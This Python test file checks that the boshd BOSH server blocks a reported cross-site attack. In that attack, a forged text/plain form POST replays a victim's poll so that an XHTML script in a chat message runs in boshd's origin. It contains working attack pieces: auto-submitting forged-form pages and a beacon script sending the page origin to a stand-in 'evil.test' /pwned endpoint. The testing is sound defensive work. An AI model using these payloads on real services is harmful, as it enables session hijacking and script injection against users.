"""Issue 13, finding 2: no script runs on boshd's origin, whatever a cross-site page does.

The attack, as reported: romeo is logged in through boshd; juliet sends him a message holding
``<script xmlns='http://www.w3.org/1999/xhtml'>``; a page on another site makes the victim's
browser submit an HTML form (``enctype="text/plain"``, so no preflight) whose body is romeo's
next poll, ``<body rid=… sid=… xmlns=…/>``. Chromium navigates to boshd's answer, a
``text/xml`` document holding the message, and used to run the script in boshd's origin.

What boshd does now, each shown here in Debian's Chromium:

* a navigation (``Sec-Fetch-Mode: navigate``: only a form or a link sends it, never an
  XHR/fetch client) is refused with 403 before any session is touched, whatever
  ``cors.allowed_origins`` says;
* so is any request whose ``Origin`` is not allowed by ``cors.allowed_origins`` (when it is not
  ``*``), as WebSocket upgrades already were (G-ORIG-01, W-HS-05);
* every response carries ``Content-Security-Policy: …; sandbox`` and
  ``X-Content-Type-Options: nosniff``, so even a browser that sends no Fetch Metadata (here:
  Chromium reaching boshd by a plain-HTTP host name, which is not a potentially trustworthy
  URL, so it sends no ``Sec-Fetch-*``) renders the answer in an opaque origin without scripts.

The marker: the script fetches ``/pwned`` from the attacker's server, which records it.
"""

from __future__ import annotations

import contextlib
import html
from collections.abc import AsyncIterator
from typing import Any

import pytest
from aiohttp import web
from playwright.async_api import Page, Response

from boshd.frontend.bosh import GET_PAGE
from tests.e2e.browser.conftest import WEB_USERS, MappedPageOpener, WebBoshdFactory, session_loop
from tests.support.boshclient import BoshClient
from tests.support.boshd import BoshdServer, eventually, unique_resource
from tests.support.native import NativeClient
from tests.support.prosody import PrivateProsody
from tests.support.stanzas import NS_HTTPBIND
from tests.support.static import StaticServer

pytestmark = [pytest.mark.e2e, pytest.mark.asyncio(loop_scope="session"), pytest.mark.timeout(60)]


class Attacker:
    """A cross-site web server: ``/attack`` auto-submits `form` to `action`; ``/pwned``
    records every hit (the script's beacon)."""

    def __init__(self) -> None:
        self.action = ""
        self.fields: dict[str, str] = {}
        self.hits: list[str] = []
        self.server = StaticServer(
            {}, routes={"/attack": self.attack, "/volley": self.volley, "/pwned": self.pwned}
        )

    async def attack(self, request: web.Request) -> web.Response:
        inputs = "".join(
            f"<input type='hidden' name='{html.escape(n, quote=True)}' "
            f"value='{html.escape(v, quote=True)}'>"
            for n, v in self.fields.items()
        )
        page = (
            "<!doctype html><html><head><title>cute cats</title></head><body>"
            f"<form id='f' method='POST' enctype='text/plain' "
            f"action='{html.escape(self.action, quote=True)}'>{inputs}</form>"
            "<script>document.getElementById('f').submit()</script></body></html>"
        )
        return web.Response(text=page, content_type="text/html")

    async def volley(self, request: web.Request) -> web.Response:
        """Every other way a page can make the browser navigate to `action`, at once, each
        into an iframe of its own: a form of each encoding (POST), a GET form, an iframe."""
        action = html.escape(self.action, quote=True)
        inputs = "".join(
            f"<input type='hidden' name='{html.escape(n, quote=True)}' "
            f"value='{html.escape(v, quote=True)}'>"
            for n, v in self.fields.items()
        )
        frames, forms = [f"<iframe src='{action}'></iframe>"], []
        for i, (method, enctype) in enumerate(VOLLEY):
            frames.append(f"<iframe name='t{i}'></iframe>")
            forms.append(
                f"<form method='{method}' enctype='{enctype}' action='{action}' "
                f"target='t{i}'>{inputs}</form>"
            )
        page = (
            "<!doctype html><html><body>" + "".join(frames + forms) + "<script>"
            "for (const f of document.forms) f.submit()</script></body></html>"
        )
        return web.Response(text=page, content_type="text/html")

    async def pwned(self, request: web.Request) -> web.Response:
        self.hits.append(str(request.rel_url))
        return web.Response(text="")

    def beacon_script(self, host: str) -> str:
        """What juliet sends: XHTML script that, if run, calls home with its origin."""
        url = f"http://{host}:{self.server.port}/pwned?origin="
        return (
            "<script xmlns='http://www.w3.org/1999/xhtml'>"
            f"new Image().src='{url}'+encodeURIComponent(location.origin);"
            "</script>"
        )


#: The forms of the volley page: (method, enctype).
VOLLEY = [
    ("POST", "text/plain"),
    ("POST", "application/x-www-form-urlencoded"),
    ("POST", "multipart/form-data"),
    ("GET", "application/x-www-form-urlencoded"),
]


@session_loop
async def attacker() -> AsyncIterator[Attacker]:
    evil = Attacker()
    async with evil.server:
        yield evil


def form_fields(sid: str, rid: int) -> dict[str, str]:
    """A text/plain form encodes ``name=value\\r\\n``: the ``=`` lands in a namespaced
    attribute, so the body is a well-formed, schema-valid empty poll."""
    name = f"<body rid='{rid}' sid='{sid}' xmlns='{NS_HTTPBIND}' xmlns:a='urn:a' a:x"
    return {name: "'y'/>"}


def queued_bytes(server: BoshdServer, sid: str) -> int:
    described: Any = server.session(sid).core.describe(0.0)
    return int(described["queued_bytes"])


def last_rid(server: BoshdServer, sid: str) -> int:
    described: Any = server.session(sid).core.describe(0.0)
    return int(described["last_rid"])


async def victim_with_a_trap(
    server: BoshdServer,
    url: str,
    prosody: PrivateProsody,
    web_users: dict[str, str],
    juliet: NativeClient,
    script: str,
) -> BoshClient:
    """romeo logged in through `server` (at `url`), nothing in flight, and juliet's message
    with the script waiting in his session's queue."""
    romeo = BoshClient(url, prosody.domain, auto_poll=False)
    await romeo.login("romeo", WEB_USERS["romeo"], resource=unique_resource("victim"))
    assert romeo.sid is not None
    assert romeo.jid is not None
    juliet.xmpp.send_raw(
        f"<message xmlns='jabber:client' to='{romeo.jid}' type='chat' id='trap'>"
        f"<body>look</body>{script}</message>"
    )
    sid = romeo.sid
    await eventually(lambda: queued_bytes(server, sid) > 0, 5.0)
    return romeo


async def submit_form(page: Page, attacker: Attacker, attack_url: str) -> Response:
    """Open the attacker's page; return the response to the form's navigation, once the
    resulting document has loaded (a script in it would have run by then)."""
    async with page.expect_response(lambda r: r.url == attacker.action) as answer:
        await page.goto(attack_url)
    response = await answer.value
    await page.wait_for_load_state("load")
    return response


async def assert_no_beacon(attacker: Attacker) -> None:
    """The script did not call home (given a second to do so, should it have run)."""
    with contextlib.suppress(AssertionError):
        await eventually(lambda: bool(attacker.hits), 1.0)
    assert attacker.hits == [], attacker.hits


async def romeo_still_gets_it(romeo: BoshClient) -> None:
    """The victim's own next poll (same rid as the forged one) gets juliet's message."""
    await romeo.request()
    message = await romeo.inbox.wait_for(lambda el: el.get("id") == "trap", 5.0)
    assert message.get("type") == "chat"
    await romeo.terminate()


@pytest.mark.parametrize("origins", ["explicit", "any"])
async def test_cross_site_form_post_is_refused_before_the_session(
    origins: str,
    page: Page,
    attacker: Attacker,
    static_pages: StaticServer,
    web_boshd_factory: WebBoshdFactory,
    prosody: PrivateProsody,
    web_users: dict[str, str],
    juliet: NativeClient,
) -> None:
    """Issue 13 #2 (G-ORIG-01): Chromium's text/plain form POST of romeo's next poll gets 403,
    the session is untouched (rid, queue), and the message's script never runs."""
    allowed = [static_pages.origin] if origins == "explicit" else ["*"]
    server = await web_boshd_factory(cors={"allowed_origins": allowed})
    romeo = await victim_with_a_trap(
        server,
        server.bosh_url,
        prosody,
        web_users,
        juliet,
        attacker.beacon_script("127.0.0.1"),
    )
    assert romeo.sid is not None
    rid_before = last_rid(server, romeo.sid)
    attacker.action = server.bosh_url
    attacker.fields = form_fields(romeo.sid, romeo.rid + 1)
    # localhost, not 127.0.0.1: another site, as the attacker's page would be.
    response = await submit_form(page, attacker, f"http://localhost:{attacker.server.port}/attack")
    sent = await response.request.all_headers()
    assert sent.get("content-type", "").startswith("text/plain"), sent
    assert sent.get("sec-fetch-mode") == "navigate", sent
    await assert_no_beacon(attacker)
    assert response.status == 403, (response.status, await response.text())
    headers = await response.all_headers()
    assert "sandbox" in headers.get("content-security-policy", ""), headers
    assert headers.get("x-content-type-options") == "nosniff", headers
    # Not processed at all: the rid was not used, the message is still queued for romeo.
    assert last_rid(server, romeo.sid) == rid_before
    assert queued_bytes(server, romeo.sid) > 0
    await romeo_still_gets_it(romeo)
    assert attacker.hits == [], attacker.hits


async def test_answer_is_inert_in_a_browser_without_fetch_metadata(
    open_mapped_page: MappedPageOpener,
    attacker: Attacker,
    web_boshd_factory: WebBoshdFactory,
    prosody: PrivateProsody,
    web_users: dict[str, str],
    juliet: NativeClient,
) -> None:
    """Issue 13 #2: with ``cors.allowed_origins = ["*"]`` and a browser that sends no
    Sec-Fetch-Mode, the forged poll is answered (it is indistinguishable from a client's),
    but the answer is sandboxed by CSP: the script in it does not run; romeo still gets the
    message (the rid's answer is replayed to him, B-RID-05)."""
    server = await web_boshd_factory(cors={"allowed_origins": ["*"]})
    # Plain HTTP to a name that is not localhost: not potentially trustworthy, so Chromium
    # sends no Sec-Fetch-* headers there (as browsers before Fetch Metadata did).
    boshd_url = f"http://boshd.test:{server.port}{server.config.server.bosh_path}"
    page, _log = await open_mapped_page("MAP boshd.test 127.0.0.1, MAP evil.test 127.0.0.1")
    romeo = await victim_with_a_trap(
        server, server.bosh_url, prosody, web_users, juliet, attacker.beacon_script("evil.test")
    )
    assert romeo.sid is not None
    attacker.action = boshd_url
    attacker.fields = form_fields(romeo.sid, romeo.rid + 1)
    response = await submit_form(page, attacker, f"http://evil.test:{attacker.server.port}/attack")
    sent = await response.request.all_headers()
    assert "sec-fetch-mode" not in sent, sent  # the premise: no Fetch Metadata
    assert sent.get("origin") == f"http://evil.test:{attacker.server.port}", sent
    assert response.status == 200, (response.status, await response.text())
    text = await response.text()
    assert "<script" in text, text  # the trap was delivered...
    assert "/pwned" in text, text
    await assert_no_beacon(attacker)  # ...and did not run
    headers = await response.all_headers()
    assert "sandbox" in headers.get("content-security-policy", ""), headers
    assert headers.get("x-content-type-options") == "nosniff", headers
    await romeo_still_gets_it(romeo)
    assert attacker.hits == [], attacker.hits


async def test_every_kind_of_navigation_to_boshd_is_refused(
    page: Page,
    attacker: Attacker,
    web_boshd_factory: WebBoshdFactory,
    prosody: PrivateProsody,
    web_users: dict[str, str],
    juliet: NativeClient,
) -> None:
    """Issue 13 #2, the class: forms of every encoding (text/plain, urlencoded, multipart)
    and GET forms and iframes, all into frames of a cross-site page, with
    ``cors.allowed_origins = ["*"]``: every POST gets 403, every GET the fixed text page
    (issue 16 #7: nothing of the form's query in it), each answer sandboxed; romeo's session
    is untouched and the script in his queue never runs."""
    server = await web_boshd_factory(cors={"allowed_origins": ["*"]})
    romeo = await victim_with_a_trap(
        server,
        server.bosh_url,
        prosody,
        web_users,
        juliet,
        attacker.beacon_script("127.0.0.1"),
    )
    assert romeo.sid is not None
    rid_before = last_rid(server, romeo.sid)
    attacker.action = server.bosh_url
    attacker.fields = form_fields(romeo.sid, romeo.rid + 1)
    seen: list[Response] = []
    page.on("response", lambda r: seen.append(r) if r.url.startswith(server.bosh_url) else None)
    await page.goto(f"http://localhost:{attacker.server.port}/volley")
    expected = len(VOLLEY) + 1  # the forms and the plain iframe
    await eventually(lambda: len(seen) >= expected, 10.0)
    await page.wait_for_load_state("load")
    await assert_no_beacon(attacker)
    methods = []
    for response in seen:
        sent = await response.request.all_headers()
        headers = await response.all_headers()
        method = response.request.method
        methods.append((method, sent.get("content-type", "").split(";")[0]))
        assert sent.get("sec-fetch-mode") == "navigate", sent
        assert response.status == (403 if method == "POST" else 200), (method, sent)
        if method == "GET":  # the frame has moved on: its body is gone, its head is not
            assert headers.get("content-type") == "text/plain; charset=utf-8", headers
            assert headers.get("content-length") == str(len(GET_PAGE)), headers
        assert "sandbox" in headers.get("content-security-policy", ""), headers
        assert headers.get("x-content-type-options") == "nosniff", headers
    assert sorted(methods) == sorted(
        [(m, e if m == "POST" else "") for m, e in VOLLEY] + [("GET", "")]
    ), methods
    assert last_rid(server, romeo.sid) == rid_before
    assert queued_bytes(server, romeo.sid) > 0
    await romeo_still_gets_it(romeo)
    assert attacker.hits == [], attacker.hits
